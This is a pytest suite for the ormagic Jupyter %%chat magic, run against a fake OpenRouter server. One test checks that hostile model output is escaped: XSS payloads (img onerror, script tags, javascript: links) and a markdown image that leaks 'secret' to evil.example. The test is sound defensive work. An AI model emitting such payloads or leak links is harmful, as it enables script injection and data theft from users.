"""%%chat in a real kernel against the loopback fake OpenRouter: what a frontend receives."""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

import nbformat
import pytest
from kernel_support import Execution, Kernel, start_kernel
from nbclient import NotebookClient
from waiting import eventually

from ormagic.testing.fake_openrouter import ErrorReply, FakeOpenRouter, StreamReply

pytestmark = pytest.mark.timeout(180)


def outputs_with(execution: Execution, mime: str) -> list[dict[str, Any]]:
    return [o for o in execution.final_outputs() if mime in o.get("data", {})]


def answer_output(execution: Execution) -> dict[str, Any]:
    [answer] = outputs_with(execution, "text/markdown")
    return answer


def footer_text(execution: Execution) -> str:
    """The last displayed output: the footer (a UsageError line may follow on stderr)."""
    displayed = [o for o in execution.final_outputs() if "data" in o]
    return str(displayed[-1]["data"]["text/plain"])


def value(kernel: Kernel, expression: str) -> Any:
    execution = kernel.execute(f"import json as _j; print(_j.dumps({expression}))")
    assert execution.status == "ok", execution.error_text()
    return json.loads(execution.stream_text())


def widget_states(execution: Execution, model: str) -> list[dict[str, Any]]:
    opened = [
        m["content"]
        for m in execution.of_type("comm_open")
        if m["content"]["data"]["state"].get("_model_name") == model
    ]
    return [c["data"]["state"] for c in opened]


def test_answer_reasoning_and_footer(kernel: Kernel, server: FakeOpenRouter) -> None:
    server.enqueue(
        StreamReply(
            reasoning="The user asks for 2+2.", text="The answer is **4**.", provider="DeepSeek"
        )
    )
    execution = kernel.execute("%%chat -c basic\nWhat is 2+2?", cell_id="cell-basic")
    assert execution.status == "ok", execution.error_text()
    outputs = execution.final_outputs()
    assert len(outputs) == 3
    details = outputs[0]["data"]["text/html"]
    assert details.startswith("<details><summary>Thought for ")
    assert "The user asks for 2+2." in details
    answer = outputs[1]
    assert answer["data"]["text/markdown"] == "The answer is **4**."
    assert answer["data"]["text/plain"] == "The answer is **4**."
    assert "<strong>4</strong>" in answer["data"]["text/html"]
    meta = answer["metadata"]["ormagic"]
    assert meta["model"] == "deepseek/deepseek-v4-flash"
    assert meta["provider"] == "DeepSeek"
    assert meta["generation_id"].startswith("gen-")
    record = server.chat_requests()[0]
    usage = record.body and meta["usage"]
    assert usage["completion_tokens"] > 0
    footer = footer_text(execution)
    assert footer.startswith("deepseek/deepseek-v4-flash via DeepSeek · ")
    # as shown: the prompt carries this kernel's earlier cells, over 999 tokens late in a run
    assert f"{usage['prompt_tokens']:,} in / {usage['completion_tokens']:,} out" in footer
    assert "$" in footer and " s · " in footer
    # the live widget streamed: Accordion opened expanded with the "Thinking…" title
    [accordion] = widget_states(execution, "AccordionModel")
    assert accordion["titles"] == ["Thinking…"]
    assert accordion["selected_index"] == 0
    # ... then collapsed, titled with the thinking time, when the answer began
    updates = [
        m["content"]["data"]["state"]
        for m in execution.of_type("comm_msg")
        if m["content"]["data"].get("method") == "update"
    ]
    collapsed = [u for u in updates if "titles" in u]
    assert collapsed[0]["selected_index"] is None
    assert collapsed[0]["titles"][0].startswith("Thought for ")
    assert collapsed[0]["titles"][0].endswith(" s")
    tokens = usage["reasoning_tokens"]
    assert collapsed[-1]["titles"][0].endswith(f" s · {tokens} tokens")
    # and no widget view survives in the saved outputs
    assert all("application/vnd.jupyter.widget-view+json" not in o.get("data", {}) for o in outputs)


def test_request_body_and_reasoning_sent_back_unchanged(
    kernel: Kernel, server: FakeOpenRouter
) -> None:
    details = [
        {"type": "reasoning.text", "text": "Think ", "format": "unknown", "index": 0},
        {
            "type": "reasoning.text",
            "text": "hard.",
            "format": "unknown",
            "index": 0,
            "signature": "sig-1",
        },
        {"type": "reasoning.encrypted", "data": "opaque==", "format": "unknown", "index": 1},
    ]
    server.enqueue(
        StreamReply(reasoning_details=details, text="First."), StreamReply(text="Second.")
    )
    first = kernel.execute("%%chat -c sendback -r high --temperature 0.2 --max-tokens 500\nOne?")
    assert first.status == "ok", first.error_text()
    second = kernel.execute("%%chat -c sendback\nTwo?")
    assert second.status == "ok", second.error_text()
    body1, body2 = (r.body for r in server.chat_requests())
    assert body1["model"] == "deepseek/deepseek-v4-flash"
    assert body1["stream"] is True
    assert body1["max_tokens"] == 500
    assert body1["temperature"] == 0.2
    assert body1["reasoning"] == {"effort": "high"}
    assert body1["session_id"] == body2["session_id"]
    assert body1["messages"][-1]["content"].endswith("One?")
    assistant = body2["messages"][1]
    assert assistant == {
        "role": "assistant",
        "content": "First.",
        "reasoning": "Think hard.",
        "reasoning_details": [
            {
                "type": "reasoning.text",
                "text": "Think hard.",
                "format": "unknown",
                "index": 0,
                "signature": "sig-1",
            },
            {"type": "reasoning.encrypted", "data": "opaque==", "format": "unknown", "index": 1},
        ],
    }
    assert body2["messages"][0] == body1["messages"][-1]
    assert value(kernel, "__import__('ormagic').conversation('sendback').messages") == [
        *body2["messages"],
        {"role": "assistant", "content": "Second."},
    ]


def test_long_answer_is_batched(kernel: Kernel, server: FakeOpenRouter) -> None:
    paragraph = "Data analysis needs care with units and missing values in every column. "
    answer = "\n\n".join(f"{i}. {paragraph * 3}" for i in range(60))  # ~13,000 characters
    server.enqueue(StreamReply(text=answer, chunk_chars=4, delay=0.0008))  # ~3,300 deltas
    execution = kernel.execute("%%chat -c long\nWrite a lot.")
    assert execution.status == "ok", execution.error_text()
    displays = execution.display_messages()
    elapsed = answer_output(execution)["metadata"]["ormagic"]["elapsed"]
    assert len(answer) // 4 > 3000
    assert len(displays) <= 10 * elapsed + 10  # ≤ 10 redraws/s plus the final outputs
    sent = sum(len(json.dumps(m["content"]["data"])) for m in displays if "data" in m["content"])
    assert sent < 8 * len(answer)  # within a few times the answer, not quadratic
    assert answer_output(execution)["data"]["text/plain"] == answer


def test_model_html_arrives_escaped(kernel: Kernel, server: FakeOpenRouter) -> None:
    evil = (
        "Look: <img src=x onerror=alert(1)> and [click](javascript:alert(2)) and "
        "![leak](https://evil.example/x.png?q=secret)\n\n<script>alert(3)</script>\n"
    )
    server.enqueue(StreamReply(reasoning="<img src=y onerror=alert(4)>", text=evil))
    execution = kernel.execute("%%chat -c evil\nSay something nasty.")
    assert execution.status == "ok", execution.error_text()
    for message in execution.messages:
        content = dict(message["content"])
        data = {k: v for k, v in content.pop("data", {}).items() if k != "text/plain"}
        # text/plain is shown as text, never as HTML; the metadata's record is data that
        # no frontend renders (it keeps the answer as received, to resume from)
        content.pop("metadata", None)
        blob = json.dumps([content, data])
        assert "<img" not in blob
        assert "<script" not in blob
        assert 'href=\\"javascript' not in blob
        assert "](javascript:" not in blob
    answer = answer_output(execution)
    assert "https://evil.example/x.png?q=secret" in answer["data"]["text/html"]  # as a link
    assert "&lt;img src=x onerror=alert(1)&gt;" in answer["data"]["text/html"]


def test_rerun_replaces_the_cells_turn(kernel: Kernel, server: FakeOpenRouter) -> None:
    server.enqueue(StreamReply(text="A1"), StreamReply(text="A2"), StreamReply(text="B"))
    kernel.execute("%%chat -c rerun\nFirst question", cell_id="c1")
    kernel.execute("%%chat -c rerun\nFirst question, better", cell_id="c1")
    kernel.execute("%%chat -c rerun\nSecond", cell_id="c2")
    messages = value(kernel, "__import__('ormagic').conversation('rerun').messages")
    assert [m["content"].rsplit("\n", 1)[-1] for m in messages] == [
        "First question, better",
        "A2",
        "Second",
        "B",
    ]
    second_request = server.chat_requests()[1].body["messages"]
    assert len(second_request) == 1  # the re-run did not see its own earlier turn


def test_interrupt_keeps_partial_answer(kernel: Kernel, server: FakeOpenRouter) -> None:
    words = " ".join(f"word{i}" for i in range(400))
    # the answer stops after 60 characters (word9): it is mid-way when the interrupt comes
    held = threading.Event()  # never opened
    server.enqueue(StreamReply(text=words, chunk_chars=6, gates={60: held}))
    execution = kernel.execute("%%chat -c stop\nTalk slowly.", interrupt_after="word3", timeout=60)
    assert execution.status == "error"
    assert (
        execution.error_text()
        == "UsageError: Interrupted (partial answer kept in the conversation)."
    )
    answer = answer_output(execution)["data"]["text/plain"]
    assert answer.startswith("word0 word1 word2 word3")
    assert len(answer) < len(words)
    assert footer_text(execution).startswith(
        "⏹ Interrupted: the partial answer is kept in the conversation.\n"
    )
    turns = value(
        kernel,
        "[(t.answer, t.interrupted) for t in __import__('ormagic').conversation('stop').turns]",
    )
    assert turns == [[answer, True]]
    [record] = server.chat_requests()
    assert record.client_disconnected  # the HTTP response was closed: billing stops

    # no usage came with the stream; %chat usage asks OpenRouter what it cost (OpenRouter,
    # like the fake, may need a moment before it knows)
    # (its row: other tests' turns in this kernel may have a cost nobody can know)
    def usage_known() -> bool:
        usage = kernel.execute("%chat usage").of_type("display_data")[0]["content"]["data"]
        [row] = [line for line in usage["text/plain"].splitlines() if line.startswith("stop ")]
        return "cost unknown" not in row

    eventually(usage_known, "%chat usage finding the interrupted turn's cost")
    cost = value(kernel, "__import__('ormagic').conversation('stop').turns[0].cost")
    assert isinstance(cost, float) and cost > 0
    server.enqueue(StreamReply(text="Still here."))
    after = kernel.execute("%%chat -c stop\nAre you there?")
    assert after.status == "ok"
    assert answer_output(after)["data"]["text/plain"] == "Still here."


@pytest.mark.parametrize(
    ("reply", "message"),
    [
        (
            ErrorReply(401, "User not found."),
            "UsageError: OpenRouter rejected the API key (User not found.). "
            "Check OPENROUTER_API_KEY.",
        ),
        (
            ErrorReply(402, "This request requires more credits, or fewer max_tokens."),
            "UsageError: Not enough credits (This request requires more credits, or fewer "
            "max_tokens.). Add credits at https://openrouter.ai/settings/credits or lower "
            "--max-tokens.",
        ),
        (
            ErrorReply(404, "No endpoints found for foo/bar."),
            "UsageError: Not found: No endpoints found for foo/bar. Check the model id "
            "(%chat models lists them).",
        ),
    ],
)
def test_pre_stream_errors_are_one_line(
    kernel: Kernel, server: FakeOpenRouter, reply: ErrorReply, message: str
) -> None:
    server.enqueue(reply)
    execution = kernel.execute("%%chat -c errors\nHello?")
    assert execution.status == "error"
    assert execution.error_text() == message
    # the "waiting" line is gone: the cell shows the error line alone
    assert [o["output_type"] for o in execution.final_outputs()] == ["stream"]
    assert value(kernel, "len(__import__('ormagic').conversation('errors').turns)") == 0


def test_retries_then_rate_limit_error(kernel: Kernel, server: FakeOpenRouter) -> None:
    for _ in range(3):
        server.enqueue(ErrorReply(429, "Rate limit exceeded", retry_after="0"))
    execution = kernel.execute("%%chat -c limited\nHello?")
    assert execution.status == "error"
    assert execution.error_text().startswith("UsageError: Rate limited (Rate limit exceeded).")
    assert len(server.chat_requests()) == 3  # two retries


def test_mid_stream_error_keeps_partial(kernel: Kernel, server: FakeOpenRouter) -> None:
    server.enqueue(
        StreamReply(text="Partial ans", error={"code": 502, "message": "Provider disconnected"})
    )
    execution = kernel.execute("%%chat -c midfail\nGo")
    assert execution.status == "error"
    assert "Provider disconnected" in execution.error_text()
    assert answer_output(execution)["data"]["text/plain"] == "Partial ans"
    assert footer_text(execution).startswith("⚠ Provider disconnected\n")
    turns = value(
        kernel,
        "[(t.answer, t.error is not None) for t in "
        "__import__('ormagic').conversation('midfail').turns]",
    )
    assert turns == [["Partial ans", True]]


def test_dropped_connection_keeps_partial(kernel: Kernel, server: FakeOpenRouter) -> None:
    server.enqueue(StreamReply(text="Half an", drop=True))
    execution = kernel.execute("%%chat -c dropped\nGo")
    assert execution.status == "error"
    assert execution.error_text() == (
        "UsageError: The connection dropped before the answer finished; what arrived is kept."
    )
    assert answer_output(execution)["data"]["text/plain"] == "Half an"


def test_missing_key_sends_nothing(kernel: Kernel, server: FakeOpenRouter) -> None:
    execution = kernel.execute(
        "import os\n_saved = os.environ.pop('OPENROUTER_API_KEY')\n"
        "try:\n    get_ipython().run_cell_magic('chat', '-c nokey', 'Hi')\n"
        "finally:\n    os.environ['OPENROUTER_API_KEY'] = _saved"
    )
    assert execution.status == "error"
    assert (
        "No OpenRouter API key: set OPENROUTER_API_KEY or `%config ChatMagics.api_key`."
        in execution.error_text()
    )
    assert server.chat_requests() == []


def test_bad_flags_are_usage_errors(kernel: Kernel) -> None:
    execution = kernel.execute("%%chat --temperature warm\nHi")
    assert execution.status == "error"
    assert (
        execution.error_text() == "UsageError: argument --temperature: invalid float value: 'warm'"
    )
    execution = kernel.execute("%%chat -r extreme\nHi")
    assert execution.error_text().startswith("UsageError: argument -r/--reasoning: invalid choice")


def test_options_out_code_interpolation_hide(kernel: Kernel, server: FakeOpenRouter) -> None:
    kernel.execute("numbers = [3, 1, 2]\nconfig = {'a': 1}")
    server.enqueue(
        StreamReply(
            text="Sort it:\n\n```python\nsorted(numbers)\n```\n", reasoning="secret thoughts"
        )
    )
    execution = kernel.execute(
        "%%chat -c opts -o reply -f code --hide-reasoning --system 'Be brief.' "
        "-m openai/gpt-5-nano\nSort {numbers}; keep {undefined_name}, {{braces}}, "
        "`{numbers}` and {config['a']}"
    )
    assert execution.status == "ok", execution.error_text()
    body = server.chat_requests()[0].body
    assert body["model"] == "openai/gpt-5-nano"
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert body["messages"][-1]["content"].endswith(
        "Sort [3, 1, 2]; keep {undefined_name}, {braces}, `{numbers}` and 1"
    )
    assert widget_states(execution, "AccordionModel") == []
    # hidden: never displayed (the saved record keeps it, to continue the conversation)
    shown = [{k: v for k, v in m["content"].items() if k != "metadata"} for m in execution.messages]
    assert all("secret thoughts" not in json.dumps(content) for content in shown)
    payload = execution.reply["content"]["payload"]
    assert payload == [{"source": "set_next_input", "text": "sorted(numbers)", "replace": False}]
    assert value(kernel, "reply") == "Sort it:\n\n```python\nsorted(numbers)\n```\n"


def test_line_commands_history_reset_status(kernel: Kernel, server: FakeOpenRouter) -> None:
    server.enqueue(StreamReply(text="Hello there."))
    kernel.execute("%%chat -c hist\nHi!")
    history = kernel.execute("%chat history hist")
    [shown] = history.of_type("display_data")
    assert (
        shown["content"]["data"]["text/plain"]
        == "[1] You: Hi!\n[1] deepseek/deepseek-v4-flash: Hello there."
    )
    status = kernel.execute("%chat")
    text = status.of_type("display_data")[0]["content"]["data"]["text/plain"]
    assert "model: deepseek/deepseek-v4-flash" in text
    assert "hist (1 turn)" in text
    assert "API key: set from OPENROUTER_API_KEY" in text
    assert server.api_key not in json.dumps([m["content"] for m in status.messages])
    reset = kernel.execute("%chat reset hist")
    assert (
        reset.of_type("display_data")[0]["content"]["data"]["text/plain"]
        == "Conversation 'hist' reset."
    )
    assert value(kernel, "len(__import__('ormagic').conversation('hist').turns)") == 0
    bad = kernel.execute("%chat frobnicate")
    assert bad.error_text().startswith("UsageError: %chat: unknown command 'frobnicate'")


def test_help_comes_from_the_argument_declarations(kernel: Kernel) -> None:
    execution = kernel.execute("%%chat?\n", timeout=30)
    payload = execution.reply["content"]["payload"]
    text = payload[0]["data"]["text/plain"]
    assert "--hide-reasoning" in text
    assert "-o NAME, --out NAME" in text


def test_executed_notebook_saves_readable_outputs(fake_env: FakeOpenRouter, tmp_path: Path) -> None:
    fake_env.enqueue(
        StreamReply(reasoning="Two and two.", text="It is **4**.", provider="DeepSeek")
    )
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("%load_ext ormagic"),
        nbformat.v4.new_code_cell("x = 2 + 2\nprint(x)"),
        nbformat.v4.new_code_cell("%%chat\nWhat is {x}?"),
    ]
    NotebookClient(nb, timeout=120, kernel_name="python3").execute()
    path = tmp_path / "saved.ipynb"
    nbformat.write(nb, path)
    saved = nbformat.read(path, as_version=4)
    nbformat.validate(saved)
    outputs = saved.cells[2].outputs
    assert [o.output_type for o in outputs] == ["display_data"] * 3
    assert [sorted(o.data) for o in outputs] == [
        ["text/html", "text/plain"],
        ["text/html", "text/markdown", "text/plain"],
        ["text/html", "text/plain"],
    ]
    assert outputs[0].data["text/html"].startswith("<details><summary>Thought for ")
    assert outputs[1].data["text/markdown"] == "It is **4**."
    assert outputs[1].metadata["ormagic"]["provider"] == "DeepSeek"
    assert outputs[2].data["text/plain"].startswith("deepseek/deepseek-v4-flash via DeepSeek")
    text = path.read_text()
    assert "widget-view" not in text
    assert fake_env.api_key not in text
    assert fake_env.chat_requests()[0].body["messages"][-1]["content"].endswith("What is 4?")


def test_server_error_and_read_timeout(kernel: Kernel, server: FakeOpenRouter) -> None:
    server.enqueue(ErrorReply(500, "Internal Server Error"))
    failed = kernel.execute("%%chat -c five\nHi")
    assert failed.error_text() == (
        "UsageError: OpenRouter error 500: Internal Server Error. "
        "Try again or choose another model."
    )
    kernel.execute("%config ChatMagics.read_timeout = 2.0")
    try:
        # silent for an hour after the text: only the read timeout can end the answer
        server.enqueue(StreamReply(text="Slow start", stall=3600))
        stalled = kernel.execute("%%chat -c slow\nHi")
    finally:
        kernel.execute("%config ChatMagics.read_timeout = 300.0")
    assert stalled.status == "error"
    assert stalled.error_text() == (
        "UsageError: Nothing arrived for 2 s, so the answer was cut short; what arrived is kept."
    )
    assert answer_output(stalled)["data"]["text/plain"] == "Slow start"


def test_key_set_with_config_is_never_shown(kernel: Kernel, server: FakeOpenRouter) -> None:
    secret = "sk-or-v1-" + "9" * 64
    kernel.execute(f"%config ChatMagics.api_key = '{secret}'")
    try:
        shown = kernel.execute("%config ChatMagics\n")
        listed = kernel.execute("print(repr(get_ipython().find_magic('chat').__self__.api_key))")
        status = kernel.execute("%chat")
    finally:
        kernel.execute("%config ChatMagics.api_key = None")
    everything = json.dumps([m["content"] for e in (shown, listed, status) for m in e.messages])
    assert secret not in everything
    assert "Secret('********')" in listed.stream_text()
    assert "API key: set with %config ChatMagics.api_key" in everything


def test_bad_context_mode_leaves_only_the_error(kernel: Kernel, server: FakeOpenRouter) -> None:
    execution = kernel.execute("%%chat --context weird\nHi")
    assert execution.status == "error"
    assert execution.error_text() == (
        "UsageError: Context must be auto, none, all or a positive number of cells, not 'weird'."
    )
    assert [o["output_type"] for o in execution.final_outputs()] == ["stream"]
    assert server.chat_requests() == []


def test_an_interrupt_while_pricing_keeps_the_answer_and_closes_the_widgets(
    server: FakeOpenRouter,
) -> None:
    # the answer streams; its usage has no cost, so ormagic fetches /models for the price,
    # and /models does not answer: the interrupt lands there, after the answer was shown
    own = start_kernel(server)  # a fresh engine: the catalogue is not cached yet
    try:
        server.enqueue(
            StreamReply(
                reasoning="Think it over.",
                text="Priced later.",
                usage={"prompt_tokens": 10, "completion_tokens": 4, "total_tokens": 14},
            )
        )
        server.models_delay = 3600
        execution = own.execute(
            # --no-tools: with tools on, /models is read before asking (does the model
            # support tools?); here it must be the price lookup that reads it
            "%%chat -c priced -m fakeco/mystery-1 --no-tools\nHow much?",
            interrupt_when=lambda: any(r.path.endswith("/models") for r in server.requests),
        )
        assert execution.status == "error"
        assert execution.error_text() == (
            "UsageError: Interrupted while looking up the price; "
            "the answer is kept in the conversation."
        )
        assert answer_output(execution)["data"]["text/plain"] == "Priced later."
        assert " · cost unknown · " in footer_text(execution)
        opened = {m["content"]["comm_id"] for m in execution.of_type("comm_open")}
        closed = {m["content"]["comm_id"] for m in execution.of_type("comm_close")}
        assert opened and opened <= closed  # the reasoning panel left no widget open
        turns = value(
            own,
            "[(t.answer, t.interrupted, t.cost) for t in "
            "__import__('ormagic').conversation('priced').turns]",
        )
        assert turns == [["Priced later.", False, None]]
    finally:
        own.shutdown()
